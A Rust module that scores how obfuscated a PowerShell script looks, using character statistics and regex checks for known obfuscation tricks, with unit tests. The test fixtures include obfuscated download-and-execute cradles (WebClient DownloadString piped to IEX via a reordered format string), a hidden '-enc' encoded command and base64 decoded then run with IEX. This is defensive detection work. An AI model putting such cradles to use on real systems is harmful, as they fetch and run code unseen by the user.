//! How obfuscated a PowerShell script looks: a score from 0 to 1 for `win_obfuscated_ps`.
//!
//! The score adds up evidence, capped at 1:
//! - character-frequency distance: 1 - cosine similarity between the script's character
//!   distribution (letters case-folded, digits as one class, whitespace as one class, each
//!   punctuation character on its own) and that of ordinary PowerShell ([`REFERENCE_SCRIPT`]);
//!   up to 0.35, from distance 0.15 (nothing) to 0.5 (all);
//! - Shannon entropy of the characters: up to 0.2, from 5.0 bits (nothing) to 5.8 bits (all);
//!   these two are scaled down for scripts shorter than 200 characters, whose distribution says
//!   little;
//! - tells, each adding a fixed amount (see [`Tell`]): backticks inside words (`I`E`X`),
//!   format-operator reordering (`"{1}{0}" -f`), `[char]` casts with `-join`, encoded commands
//!   and base64 decoding, long base64 runs, string concatenation chains (`'a'+'b'+'c'`),
//!   `Invoke-Expression`/`iex`, and random letter case (`iNvOkE`).
//!
//! Scripts scoring at least [`THRESHOLD`] are `Obfuscated`.

use std::sync::LazyLock;

use regex::Regex;

/// The score from which a script is `Obfuscated`.
pub const THRESHOLD: f64 = 0.5;

/// Ordinary PowerShell, the baseline of the character-frequency distance: the kind of
/// administration script that makes up most script-block logs.
pub const REFERENCE_SCRIPT: &str = r#"
param(
    [Parameter(Mandatory = $true)]
    [string]$ComputerName,
    [int]$Days = 7
)

function Get-OldLogFiles {
    param([string]$Path, [int]$OlderThanDays)
    $limit = (Get-Date).AddDays(-$OlderThanDays)
    Get-ChildItem -Path $Path -Recurse -Filter '*.log' -ErrorAction SilentlyContinue |
        Where-Object { $_.LastWriteTime -lt $limit } |
        Sort-Object -Property Length -Descending
}

$services = Get-Service -ComputerName $ComputerName | Where-Object { $_.Status -eq 'Running' }
foreach ($service in $services) {
    Write-Host "Service $($service.Name) is running on $ComputerName"
}

$report = @()
$files = Get-OldLogFiles -Path "C:\Logs" -OlderThanDays $Days
foreach ($file in $files) {
    $report += [PSCustomObject]@{
        Name     = $file.Name
        SizeKB   = [math]::Round($file.Length / 1KB, 2)
        Modified = $file.LastWriteTime.ToString('yyyy-MM-dd')
    }
}
$report | Export-Csv -Path "$env:TEMP\old-logs.csv" -NoTypeInformation
if ($report.Count -gt 0) {
    Write-Output "Found $($report.Count) old log files"
} else {
    Write-Verbose "No old log files found"
}

try {
    $session = New-PSSession -ComputerName $ComputerName -ErrorAction Stop
    Invoke-Command -Session $session -ScriptBlock {
        Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 Name, Id, CPU
    }
} catch {
    Write-Error "Could not connect to ${ComputerName}: $_"
} finally {
    if ($session) { Remove-PSSession $session }
}
$users = Get-LocalUser | Where-Object Enabled | Select-Object Name, LastLogon
$users | Format-Table -AutoSize
"#;

/// A known obfuscation technique and what finding it adds to the score.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tell {
    /// At least two backticks between letters that are not string escapes: `I`n`V`oke`.
    BacktickInWord,
    /// A format string whose placeholders are not in order: `"{2}{0}{1}" -f`.
    ReorderedFormat,
    /// At least five `[char]NN` casts.
    CharCasts,
    /// `-join` together with `[char]` casts.
    JoinedChars,
    /// `-EncodedCommand`/`-enc` with a payload, or `FromBase64String`.
    EncodedCommand,
    /// A base64 run of 100 characters or more.
    Base64Blob,
    /// At least four `'..'+'..'` string concatenations.
    StringConcatenation,
    /// `Invoke-Expression`, `iex`, or `.Invoke(`: code built at run time is run.
    InvokeExpression,
    /// Words whose letter case alternates at random (`iNvOkE`).
    RandomCase,
}

impl Tell {
    pub fn weight(self) -> f64 {
        match self {
            Tell::BacktickInWord => 0.35,
            Tell::ReorderedFormat => 0.35,
            Tell::CharCasts => 0.3,
            Tell::JoinedChars => 0.1,
            Tell::EncodedCommand => 0.4,
            Tell::Base64Blob => 0.2,
            Tell::StringConcatenation => 0.25,
            Tell::InvokeExpression => 0.15,
            Tell::RandomCase => 0.25,
        }
    }
}

/// A script's score and what it is made of.
#[derive(Clone, Debug, PartialEq)]
pub struct Assessment {
    /// 0 to 1.
    pub score: f64,
    pub frequency_distance: f64,
    pub entropy: f64,
    pub tells: Vec<Tell>,
}

impl Assessment {
    pub fn is_obfuscated(&self) -> bool {
        self.score >= THRESHOLD
    }

    /// `Obfuscated` or `Not Obfuscated`.
    pub fn state(&self) -> &'static str {
        if self.is_obfuscated() { "Obfuscated" } else { "Not Obfuscated" }
    }

    /// The score as the table shows it: two decimals.
    pub fn score_text(&self) -> String {
        format!("{:.2}", self.score)
    }
}

const PUNCTUATION: &str = "`~!@#$%^&*()-_=+[]{}\\|;:'\",.<>/?";
const CLASSES: usize = 26 + 1 + 1 + PUNCTUATION.len() + 1;

fn class_of(c: char) -> usize {
    match c {
        'a'..='z' => c as usize - 'a' as usize,
        'A'..='Z' => c as usize - 'A' as usize,
        '0'..='9' => 26,
        c if c.is_whitespace() => 27,
        c => PUNCTUATION.find(c).map_or(CLASSES - 1, |i| 28 + i),
    }
}

fn frequencies(text: &str) -> [f64; CLASSES] {
    let mut counts = [0.0; CLASSES];
    for c in text.chars() {
        counts[class_of(c)] += 1.0;
    }
    counts
}

static REFERENCE: LazyLock<[f64; CLASSES]> = LazyLock::new(|| frequencies(REFERENCE_SCRIPT));

/// 1 - cosine similarity with ordinary PowerShell: 0 for the same mix of characters.
pub fn frequency_distance(script: &str) -> f64 {
    let counts = frequencies(script);
    let dot: f64 = counts.iter().zip(REFERENCE.iter()).map(|(a, b)| a * b).sum();
    let norm = |v: &[f64; CLASSES]| v.iter().map(|x| x * x).sum::<f64>().sqrt();
    let norms = norm(&counts) * norm(&REFERENCE);
    if norms == 0.0 { 0.0 } else { 1.0 - dot / norms }
}

/// Shannon entropy of the script's characters, in bits.
pub fn entropy(script: &str) -> f64 {
    let mut counts = std::collections::HashMap::new();
    let mut total = 0.0;
    for c in script.chars() {
        *counts.entry(c).or_insert(0.0) += 1.0;
        total += 1.0;
    }
    counts.values().map(|&n: &f64| -(n / total) * (n / total).log2()).sum()
}

fn regex(pattern: &str) -> Regex {
    // The patterns are constants of this file, covered by the tests.
    Regex::new(pattern).unwrap_or_else(|e| panic!("bad built-in pattern {pattern}: {e}"))
}

static FORMAT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(?i)["']([^"']*\{\d+\}[^"']*)["']\s*\)?\s*-f\b"#));
static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| regex(r"\{(\d+)\}"));
static CHAR_CAST: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)\[char\]\s*\(?\s*(0x)?[0-9a-f]+"));
static JOIN: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)-join\b"));
static ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    regex(r"(?i)(\s-e(nc(odedcommand)?|c)?\s+['\x22]?[A-Za-z0-9+/=]{20,}|frombase64string)")
});
static BASE64: LazyLock<Regex> = LazyLock::new(|| regex(r"[A-Za-z0-9+/]{100,}={0,2}"));
static CONCATENATION: LazyLock<Regex> = LazyLock::new(|| regex(r#"["']\s*\+\s*["']"#));
static INVOKE: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)(\biex\b|invoke-expression|\.invoke\s*\()"));
static WORD: LazyLock<Regex> = LazyLock::new(|| regex(r"[A-Za-z]{4,}"));

/// Letters alternating case one by one (`nVoK`), or a word starting lower-then-upper (`iNvoke`).
fn has_random_case(word: &str) -> bool {
    let bytes = word.as_bytes();
    let lower_upper = |a: u8, b: u8| a.is_ascii_lowercase() && b.is_ascii_uppercase();
    let upper_lower = |a: u8, b: u8| a.is_ascii_uppercase() && b.is_ascii_lowercase();
    if bytes.len() >= 3 && lower_upper(bytes[0], bytes[1]) && bytes[2].is_ascii_lowercase() {
        return true;
    }
    bytes.windows(4).any(|w| lower_upper(w[0], w[1]) && upper_lower(w[1], w[2]) && lower_upper(w[2], w[3]))
}

fn tells(script: &str) -> Vec<Tell> {
    let mut found = Vec::new();
    const STRING_ESCAPES: &str = "0abefnrtuv";
    // Overlapping matches (`I`E`X` is two), which a regex iterator does not give.
    let chars: Vec<char> = script.chars().collect();
    let backticks = chars
        .windows(3)
        .filter(|w| {
            w[1] == '`'
                && w[0].is_ascii_alphanumeric()
                && w[2].is_ascii_alphabetic()
                && !STRING_ESCAPES.contains(w[2])
        })
        .count();
    if backticks >= 2 {
        found.push(Tell::BacktickInWord);
    }
    let reordered = FORMAT.captures_iter(script).any(|c| {
        let indices: Vec<u32> = PLACEHOLDER.captures_iter(&c[1]).filter_map(|p| p[1].parse().ok()).collect();
        indices.windows(2).any(|pair| pair[1] < pair[0])
    });
    if reordered {
        found.push(Tell::ReorderedFormat);
    }
    let casts = CHAR_CAST.find_iter(script).count();
    if casts >= 5 {
        found.push(Tell::CharCasts);
    }
    if casts >= 3 && JOIN.is_match(script) {
        found.push(Tell::JoinedChars);
    }
    if ENCODED.is_match(script) {
        found.push(Tell::EncodedCommand);
    }
    if BASE64.is_match(script) {
        found.push(Tell::Base64Blob);
    }
    if CONCATENATION.find_iter(script).count() >= 4 {
        found.push(Tell::StringConcatenation);
    }
    if INVOKE.is_match(script) {
        found.push(Tell::InvokeExpression);
    }
    if WORD.find_iter(script).filter(|w| has_random_case(w.as_str())).count() >= 2 {
        found.push(Tell::RandomCase);
    }
    found
}

fn ramp(value: f64, from: f64, to: f64) -> f64 {
    ((value - from) / (to - from)).clamp(0.0, 1.0)
}

/// Scores `script`, see the module doc.
pub fn assess(script: &str) -> Assessment {
    let length = script.chars().count();
    let confidence = (length as f64 / 200.0).min(1.0);
    let frequency_distance = frequency_distance(script);
    let entropy = entropy(script);
    let tells = tells(script);
    let statistical = 0.35 * ramp(frequency_distance, 0.15, 0.5) + 0.2 * ramp(entropy, 5.0, 5.8);
    let evidence: f64 = tells.iter().map(|t| t.weight()).sum();
    let score = (statistical * confidence + evidence).min(1.0);
    Assessment { score, frequency_distance, entropy, tells }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PLAIN: &[&str] = &[
        REFERENCE_SCRIPT,
        "Get-ChildItem -Path $env:USERPROFILE\\Documents -Filter *.docx | Select-Object Name, Length",
        r#"
$cred = Get-Credential
$computers = Get-Content -Path .\servers.txt
foreach ($c in $computers) {
    $os = Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName $c
    Write-Host "`n$c`t$($os.Caption) $($os.Version)"
    if ($os.FreePhysicalMemory -lt 100MB) { Write-Warning "$c is low on memory" }
}
$expression = "Get-Date"
Invoke-Expression $expression
"#,
        "Import-Module ActiveDirectory\nGet-ADUser -Filter {Enabled -eq $true} -Properties LastLogonDate | \
         Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-90) } | Export-Csv stale.csv",
        "$message = \"Hello, {0}! Today is {1}.\" -f $env:USERNAME, (Get-Date).DayOfWeek\nWrite-Output $message",
    ];

    const OBFUSCATED: &[&str] = &[
        // Token obfuscation: backticks and random case.
        "&(\"{1}{0}\"-f'EX','I') (nEw-oBjEcT NeT.wEbClIeNt).\"DoW`NLo`AdStR`InG\"('http://127.0.0.1/a.ps1')",
        // Characters cast and joined.
        "$c = [char]73+[char]69+[char]88; iex (-join ([char[]](87,114,105,116,101,45,72,111,115,116)))\n\
         [char]0x49 + [char]0x45 + [char]0x58 | % { $_ }",
        // Encoded command.
        "powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        // String reordering and concatenation.
        "$a = ('{3}{0}{2}{1}' -f 'oke-','on','Expressi','Inv'); $b = 'Wri'+'te-'+'Ho'+'st'+' '+'hi'; & $a $b",
        // Base64 payload decoded at run time.
        "$d = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\
         'VwByAGkAdABlAC0ASABvAHMAdAAgACcAaABlAGwAbABvACcAVwByAGkAdABlAC0ASABvAHMAdAAgACcAaABlAGwAbABvACcA'));\
         IEX $d",
    ];

    #[test]
    fn ordinary_scripts_are_not_obfuscated() {
        for script in PLAIN {
            let assessment = assess(script);
            assert!(!assessment.is_obfuscated(), "{assessment:?}\n{script}");
            assert_eq!(assessment.state(), "Not Obfuscated");
        }
    }

    #[test]
    fn obfuscated_scripts_are_detected() {
        for script in OBFUSCATED {
            let assessment = assess(script);
            assert!(assessment.is_obfuscated(), "{assessment:?}\n{script}");
            assert_eq!(assessment.state(), "Obfuscated");
        }
    }

    #[test]
    fn each_tell_is_recognised() {
        assert!(tells("I`E`X (gc x)").contains(&Tell::BacktickInWord));
        assert!(!tells("\"a`nb`tc\"").contains(&Tell::BacktickInWord), "string escapes are normal");
        assert!(tells("(\"{1}{0}\" -f 'a','b')").contains(&Tell::ReorderedFormat));
        assert!(!tells("\"{0} and {1}\" -f 1, 2").contains(&Tell::ReorderedFormat));
        assert!(tells("powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A").contains(&Tell::EncodedCommand));
        assert!(tells("'a'+'b'+'c'+'d'+'e'").contains(&Tell::StringConcatenation));
        assert!(tells("Invoke-Expression $x").contains(&Tell::InvokeExpression));
        assert!(tells("iNvOkE-wEbReQuEsT").contains(&Tell::RandomCase));
        assert!(!tells("Get-ChildItem ConvertFrom-SecureString PSCustomObject").contains(&Tell::RandomCase));
    }

    #[test]
    fn statistics_separate_ordinary_text_from_noise() {
        assert!(frequency_distance(REFERENCE_SCRIPT) < 1e-9);
        let noise = "%{$_-bxor0x5A}|%{[char]$_}`'`\"+{}[]()".repeat(20);
        assert!(frequency_distance(&noise) > 0.5);
        assert!(entropy("aaaa") < 0.01);
        assert!((entropy("abcd") - 2.0).abs() < 1e-9);
        assert_eq!(assess("").score_text(), "0.00");
    }
}
